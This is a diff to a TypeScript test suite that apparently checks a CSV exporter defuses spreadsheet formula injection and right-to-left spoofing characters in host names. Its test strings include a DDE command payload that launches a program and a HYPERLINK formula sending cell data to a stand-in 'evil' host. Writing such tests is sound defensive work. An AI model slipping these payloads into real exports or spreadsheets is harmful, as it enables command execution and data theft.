@@ -129,10 +129,67 @@ describe('foreign text', () => {
   const shown = (name: string): string | undefined =>
     find(rowsOf(sampleSnapshot({ host: { name, id: null } })), 'snapshot', '', 'host.name')?.value
 
-  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '  =1', '＝1', "=cmd|' /C calc'!A0"])(
-    'a spreadsheet does not run %j',
-    (name) => expect(shown(name)).toBe(`'${name}`),
+  test.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\ta',
+    '\ra',
+    '\na',
+    '  =1',
+    '＝1',
+    "'=1",
+    "=cmd|' /C calc'!A0",
+  ])('a spreadsheet does not run %j', (name) => expect(shown(name)).toBe(`'${name}`))
+
+  test.each([
+    ['/media/x;=HYPERLINK("http://evil/?"&A1;"x")', `/media/x;'=HYPERLINK("http://evil/?"&A1;"x")`],
+    ['a;b;-1;+1', `a;b;'-1;'+1`],
+    ['a; @x', `a;' @x`],
+    ['a;"=1"', `a;'"=1"`],
+    ["a;'=1", `a;''=1`],
+    ['a\t=1\r\n=2', `a\t'=1\r\n'=2`],
+    ['\t=1', `'\t'=1`],
+    ['\n\n=1', `'\n\n'=1`],
+    ['a;b=1, -2', 'a;b=1, -2'],
+  ])('nor one that splits at semicolons, tabs or line breaks %j', (name, harmless) =>
+    expect(shown(name)).toBe(harmless),
   )
+
+  /** Of what stands in the way of reading it back, as often as chance has it. */
+  const tricky = fc.string({
+    unit: fc.constantFrom("'", '"', ';', ',', ' ', '\t', '\n', '\r', '=', '-', '＠', 'a'),
+  })
+
+  test('wherever a reader splits, and whatever it thinks of quotes, no cell begins as a formula', () => {
+    fc.assert(
+      fc.property(tricky, (name) => {
+        const csv = renderCsv(sampleSnapshot({ host: { name, id: null } }))
+        for (const separators of [/[\r\n]/, /[;\r\n]/, /[\t\r\n]/, /[;\t\r\n]/])
+          for (const cell of csv.split(separators))
+            if (/^[\s"]*[=+\-@＠]/.test(cell)) throw new Error(`a cell begins as a formula: ${cell}`)
+      }),
+      { numRuns: 100 },
+    )
+  })
+
+  test('what the apostrophes stand in front of comes back as it was', () => {
+    const back = (text: string): string =>
+      text
+        .replace(/(?<=^|[;\t\r\n])'(?='*(?:[^\S\t\r\n]|")*[=+\-@＝＋－＠])/g, '')
+        .replace(/^'(?='*[\t\r\n])/, '')
+    fc.assert(
+      fc.property(tricky, (name) => {
+        expect(back(shown(name)!)).toBe(name)
+      }),
+      { numRuns: 100 },
+    )
+  })
+
+  test('marks that turn the direction of reading are marked, as in every report', () => {
+    expect(shown('a\u202egpj.\u2066b\u200f\u2028\ufeffc')).toBe('a\ufffdgpj.\ufffdb\ufffd\ufffd\ufffdc')
+  })
 
   test('a host or container name is defused where it names rows, too', () => {
     const rows = rowsOf(sampleSnapshot({ host: { name: '=evil', id: null } }))
